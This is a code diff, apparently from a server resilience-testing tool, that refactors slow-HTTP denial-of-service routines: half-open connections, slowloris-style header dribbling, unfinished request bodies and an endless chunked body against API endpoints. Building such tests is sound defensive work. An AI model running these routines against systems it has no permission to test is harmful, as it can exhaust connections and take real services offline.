@@ -45,6 +45,15 @@ const exchange = async (
   socket.destroy()
 }
 
+/** Does something on a connection of its own, and hangs up. */
+const onConnection =
+  (act: (socket: Socket, target: Target) => Promise<void>): Attack['once'] =>
+  async target => {
+    const socket = await dial(target)
+    await act(socket, target)
+    socket.destroy()
+  }
+
 const lastOne = { Connection: 'close' }
 
 /** One thing that a client does again and again, and how many clients do it at the same time. */
@@ -68,45 +77,38 @@ const slowReader: Attack = {
 const halfOpen: Attack = {
   name: 'connects and says nothing',
   clients: 100,
-  once: async target => {
-    const socket = await dial(target)
+  once: onConnection(async () => {
     await sleep(randomInt(15_000))
-    socket.destroy()
-  },
+  }),
 }
 
 const slowloris: Attack = {
   name: 'says its head letter by letter',
   clients: 50,
-  once: async target => {
-    const socket = await dial(target)
+  once: onConnection(async socket => {
     for (const letter of head('GET /api/products', { 'X-Slow': 'a'.repeat(200) })) {
       if (!socket.writable) break
       socket.write(letter)
       await sleep(250)
     }
-    socket.destroy()
-  },
+  }),
 }
 
 const unfinishedBody: Attack = {
   name: 'does not finish its body',
   clients: 80,
-  once: async target => {
-    const socket = await dial(target)
+  once: onConnection(async socket => {
     const headers = { 'Content-Type': 'application/json', 'Content-Length': 1_048_576 }
     socket.write(head('POST /api/users', headers))
     socket.write(Buffer.alloc(1_000_000, 'x'))
     await sleep(randomInt(40_000))
-    socket.destroy()
-  },
+  }),
 }
 
 const hugeBody: Attack = {
   name: 'sends a body without an end, in small chunks',
   clients: 4,
-  once: async target => {
-    const socket = await dial(target)
+  once: onConnection(async socket => {
     socket.write(
       head('POST /graphql', { 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' }),
     )
@@ -115,8 +117,7 @@ const hugeBody: Attack = {
       socket.write(chunks)
       await sleep(20)
     }
-    socket.destroy()
-  },
+  }),
 }
 
 const hangUp: Attack = {
